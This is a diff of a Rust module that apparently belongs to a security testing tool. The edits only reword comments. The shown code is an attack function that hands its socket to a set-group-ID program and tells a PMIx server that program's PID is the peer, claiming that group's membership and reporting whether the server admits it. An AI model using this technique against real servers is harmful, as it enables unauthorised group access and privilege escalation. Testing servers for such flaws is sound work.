@@ -1,5 +1,6 @@
-//! Membership of a group by a program that has its rights. The attacker hands its socket to a program with the set-group-ID bit, as
-//! standard input, and tells the server that this is the process that speaks.
+//! Membership of a group claimed by means of a program with the rights of that group. The attacker
+//! passes its socket as standard input to a program with the set-group-ID bit. It claims to the
+//! server that this program is the peer.
 use super::{own_user, tool};
 use crate::raw_client::encoded;
 use anyhow::{Context, Result};
@@ -13,7 +14,8 @@ use std::{
     time::Duration,
 };
 
-/// Claims to be in a group by a program that runs as that group, and prints whether the server lets the tool in.
+/// Claims to be in a group by means of a program that runs as that group. Prints the server's
+/// decision about the tool.
 pub fn attack(server: SocketAddr, program: &str, group: u32) -> Result<()> {
     let mut stream = TcpStream::connect(server).context("connecting")?;
     let input = OwnedFd::from(stream.try_clone()?);
@@ -43,7 +45,7 @@ fn says_who(stream: &mut TcpStream, pid: u32, group: u32) -> Result<&'static str
         .push(Info::new(key::PMIX_PROC_PID, Value::Pid(pid)));
     stream.set_read_timeout(Some(Duration::from_secs(30)))?;
     stream.write_all(&encoded(&hello))?;
-    // A refused connection is closed without a byte.
+    // The server closes a refused connection without sending a byte.
     Ok(if stream.read(&mut [0; 512]).is_ok_and(|count| count > 0) {
         "admitted"
     } else {
